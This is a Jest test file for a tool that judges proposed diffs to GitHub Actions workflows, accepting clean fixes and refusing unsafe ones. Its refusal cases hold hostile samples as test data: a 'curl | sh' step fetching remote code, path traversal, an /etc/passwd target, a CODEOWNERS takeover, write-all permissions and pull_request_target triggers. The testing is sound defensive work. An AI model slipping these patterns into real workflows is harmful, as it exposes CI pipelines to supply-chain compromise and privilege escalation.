import { describe, expect, it } from '@jest/globals'
import { judgeProposedDiff, planFix } from '../../src/remediate/index.js'
import { unifiedPatch } from '../../src/remediate/patch.js'
import type { FixRefusal, PlannedFix } from '../../src/remediate/index.js'
import { crlf, disk, fixture, heap, planned, python, refused, retry, timeout } from './helpers.ts'

const CI = '.github/workflows/node-ci.yml'
const FILES = { [CI]: fixture('node-ci.yml'), '.github/CODEOWNERS': '* @acme/devops\n', 'package.json': '{}\n' }
const ALLOWED = ['.github/workflows/**']

function judge(diff: string, files: Record<string, string> = FILES, allowedPaths: string[] = ALLOWED): PlannedFix | FixRefusal {
  return judgeProposedDiff({ diff, files, allowedPaths })
}

function patchFor(before: string, after: string, path = CI): string {
  return unifiedPatch(path, before, after)
}

/** A git-style diff of node-ci.yml with one piece replaced, as the planner would write it. */
function diffOf(from: string, to: string): string {
  const before = FILES[CI]!
  expect(before).toContain(from)
  return patchFor(before, before.replace(from, to))
}

describe('judgeProposedDiff accepts a clean proposal', () => {
  it('gives the same result as the catalog fix for the same change', () => {
    const cases: [string, string, Parameters<typeof planFix>[0]['intent'], string][] = [
      ['node-ci.yml', fixture('node-ci.yml'), timeout(), 'lint'],
      ['web-build.yml', fixture('web-build.yml'), heap('Bundle'), 'build (web)'],
      ['system-deps.yml', crlf('system-deps.yml'), retry('go'), 'native'],
      ['docker-image.yml', fixture('docker-image.yml'), disk(), 'image'],
      ['python-legacy.yml', fixture('python-legacy.yml'), python('3.7', 'ubuntu-24.04', 'Set up Python'), 'py37']
    ]
    for (const [name, text, intent, jobName] of cases) {
      const path = `.github/workflows/${name}`
      const fix = planned(planFix({ workflowPath: path, workflowText: text, intent, jobName }))
      const judged = planned(judge(fix.patch, { [path]: text }))
      expect({ name, kind: judged.kind, risk: judged.risk, after: judged.after, patch: judged.patch, lines: judged.changedLines }).toEqual({
        name,
        kind: fix.kind,
        risk: fix.risk,
        after: fix.after,
        patch: fix.patch,
        lines: fix.changedLines
      })
      expect(judged.origin).toBe('proposed-diff')
      expect(judged.permissionGrant).toBeNull()
    }
  })

  it('accepts a hand-written diff without git headers or a/ b/ prefixes, and with bare empty context lines', () => {
    const diff = [
      `--- ${CI}`,
      `+++ ${CI}`,
      '@@ -20,5 +20,5 @@',
      '',
      ' jobs:',
      '   lint:',
      '     runs-on: ubuntu-latest',
      '-    timeout-minutes: 10',
      '+    timeout-minutes: 15',
      ''
    ].join('\n')
    const judged = planned(judge(diff))
    expect(judged.kind).toBe('raise-timeout')
    expect(judged.after).toBe(FILES[CI]!.replace('timeout-minutes: 10', 'timeout-minutes: 15'))
    expect(judged.description).toContain('`jobs.lint.timeout-minutes` from `10` to `15`')
  })

  it('scores a change of no catalog shape higher, from the change itself', () => {
    const judged = planned(judge(diffOf('      - run: npm run lint\n', '      - run: npm run lint\n      - uses: actions/cache@v4\n        with: { path: ~/.npm, key: npm }\n')))
    expect(judged.kind).toBe('proposed-diff')
    expect(judged.risk).toBe(9)
    expect(judged.title).toBe('Apply the proposed change to node-ci.yml')
  })
})

describe('judgeProposedDiff refuses hostile or broken proposals', () => {
  const header = (path: string): string => `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n`
  const tweak = diffOf('timeout-minutes: 10', 'timeout-minutes: 15')
  const hunks = tweak.slice(tweak.indexOf('@@'))

  it.each([
    ['path traversal', header('.github/workflows/../../src/index.ts') + hunks, 'not normalised'],
    ['an absolute path', `--- /etc/passwd\n+++ /etc/passwd\n${hunks}`, 'absolute'],
    ['a backslash path', header('.github\\workflows\\node-ci.yml') + hunks, 'backslashes'],
    ['CODEOWNERS', header('.github/CODEOWNERS') + '@@ -1 +1 @@\n-* @acme/devops\n+* @attacker\n', 'outside the allowed paths'],
    ['a file that does not exist', header('.github/workflows/other.yml') + hunks, 'not an existing file'],
    ['a new workflow file', `diff --git a/.github/workflows/evil.yml b/.github/workflows/evil.yml\nnew file mode 100644\n--- /dev/null\n+++ b/.github/workflows/evil.yml\n@@ -0,0 +1 @@\n+on: push\n`, 'creates, deletes'],
    ['a new file without git headers', `--- /dev/null\n+++ b/.github/workflows/evil.yml\n@@ -0,0 +1 @@\n+on: push\n`, '/dev/null'],
    ['a deleted file', `diff --git a/${CI} b/${CI}\ndeleted file mode 100644\n--- a/${CI}\n+++ /dev/null\n`, 'creates, deletes'],
    ['a mode change', `diff --git a/${CI} b/${CI}\nold mode 100644\nnew mode 100755\n`, 'creates, deletes'],
    ['a rename', `diff --git a/${CI} b/.github/workflows/x.yml\nsimilarity index 90%\nrename from ${CI}\nrename to .github/workflows/x.yml\n`, 'creates, deletes'],
    ['two different names', `--- a/${CI}\n+++ b/.github/workflows/x.yml\n${hunks}`, 'renames'],
    ['two files', tweak + header('.github/workflows/node-ci.yml') + hunks, 'more than one file'],
    ['a fuzzy hunk (one line off)', tweak.replace(/@@ -(\d+),(\d+) \+(\d+),/, (_m, n: string, c: string, m: string) => `@@ -${Number(n) + 1},${c} +${Number(m) + 1},`), 'does not match'],
    ['inconsistent line numbers', tweak.replace(/@@ -(\d+),/, (_m, n: string) => `@@ -${Number(n) + 1},`), 'inconsistent line numbers'],
    ['a fuzzy hunk (changed context)', tweak.replace('   runs-on: ubuntu-latest', '   runs-on:  ubuntu-latest'), 'does not match'],
    ['wrong line counts', tweak.replace(/@@ -(\d+),(\d+)/, (_m, n: string, c: string) => `@@ -${n},${Number(c) + 1}`), 'line counts'],
    ['prose around the diff', `Here is the fix:\n${tweak}`, 'no ---/+++ file header'],
    ['a binary patch', `diff --git a/${CI} b/${CI}\nGIT binary patch\nliteral 0\n`, 'creates, deletes']
  ])('refuses %s', (_name, diff, reason) => {
    const result = refused(judge(diff, { ...FILES, '.github/workflows/x.yml': 'on: push\n' }, [...ALLOWED, '.github/CODEOWNERS']))
    if (reason === 'outside the allowed paths') {
      // Allowed by the globs, CODEOWNERS is still not a workflow; with the default globs it is outside.
      expect(result.refused).toContain('not a workflow file')
      expect(refused(judge(diff)).refused).toContain('outside the allowed paths')
      return
    }
    expect(result.code).toBe('invalid-diff')
    expect(result.refused).toContain(reason)
  })

  it.each([
    ['a pull_request_target trigger', 'on:\n  push:', 'on:\n  pull_request_target:\n  push:', 'pull_request_target'],
    ['curl | sh', '      - run: npm ci\n', '      - run: curl -fsSL https://get.example.dev | sh\n      - run: npm ci\n', 'downloads code and runs it'],
    ['write-all', 'permissions:\n  contents: read', 'permissions: write-all', 'widens the permissions'],
    ['a wider scope', 'permissions:\n  contents: read', 'permissions:\n  contents: read\n  pull-requests: write', 'widens the permissions'],
    ['continue-on-error', '      - run: npm run lint\n', '      - run: npm run lint\n        continue-on-error: true\n', 'continue-on-error'],
    ['a skipped job', '  docker:\n    runs-on: ubuntu-latest\n', "  docker:\n    if: ${{ false }}\n    runs-on: ubuntu-latest\n", 'always false'],
    ['an unpinned action', '      - run: npm ci\n', '      - uses: someone/setup@v1\n      - run: npm ci\n', 'pinned to a full commit SHA']
  ])('refuses a hunk that adds %s', (_name, from, to, reason) => {
    const result = refused(judge(diffOf(from, to)))
    expect(result.code).toBe('unsafe')
    expect(result.refused).toContain(reason)
  })

  it('refuses a diff that changes nothing, and one that breaks the YAML', () => {
    const noop = `--- a/${CI}\n+++ b/${CI}\n@@ -21,2 +21,2 @@\n jobs:\n   lint:\n`
    expect(refused(judge(noop)).code).toBe('nothing-to-change')
    expect(refused(judge(diffOf('jobs:\n', 'jobs: [\n'))).code).toBe('unsafe')
  })

  it('never lets a proposal grant a permission, even the one an add-permission fix would', () => {
    const text = fixture('pr-automation.yml')
    const path = '.github/workflows/pr-automation.yml'
    const fix = planned(planFix({ workflowPath: path, workflowText: text, intent: { kind: 'add-permission', acceptedPermissions: null, step: 'Upload SARIF', description: '' }, jobName: 'sarif' }))
    expect(refused(judge(fix.patch, { [path]: text })).refused).toContain('widens the permissions')
  })

  it('with a target, refuses a diff of any other workflow, even an allowed and existing one', () => {
    const release = '.github/workflows/release.yml'
    const files = { ...FILES, [release]: 'on:\n  push:\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm publish\n' }
    const other = unifiedPatch(release, files[release]!, files[release]!.replace('    runs-on: ubuntu-latest\n', '    runs-on: ubuntu-latest\n    timeout-minutes: 15\n'))
    // Without a target it would be judged on its merits (and pass).
    expect(planned(judgeProposedDiff({ diff: other, files, allowedPaths: ALLOWED })).path).toBe(release)
    const result = refused(judgeProposedDiff({ diff: other, files, allowedPaths: ALLOWED, target: CI }))
    expect(result.code).toBe('invalid-diff')
    expect(result.refused).toContain(`only the workflow of the failed run, \`${CI}\`, may be changed`)
    // The allowed globs are checked first: a path outside them says so, whatever the target.
    expect(refused(judgeProposedDiff({ diff: other.replaceAll(release, 'src/release.yml'), files, allowedPaths: ALLOWED, target: CI })).refused).toContain('outside the allowed paths')
    expect(planned(judgeProposedDiff({ diff: diffOf('timeout-minutes: 10', 'timeout-minutes: 15'), files, allowedPaths: ALLOWED, target: CI })).path).toBe(CI)
  })

  it('matches CRLF files exactly: an LF diff does not apply to a CRLF file', () => {
    const crlfFiles = { [CI]: FILES[CI]!.replace(/\n/g, '\r\n') }
    expect(refused(judge(diffOf('timeout-minutes: 10', 'timeout-minutes: 15'), crlfFiles)).refused).toContain('does not match')
    const crlfDiff = patchFor(crlfFiles[CI]!, crlfFiles[CI]!.replace('timeout-minutes: 10', 'timeout-minutes: 15'))
    expect(planned(judge(crlfDiff, crlfFiles)).after).toContain('timeout-minutes: 15\r\n')
  })
})
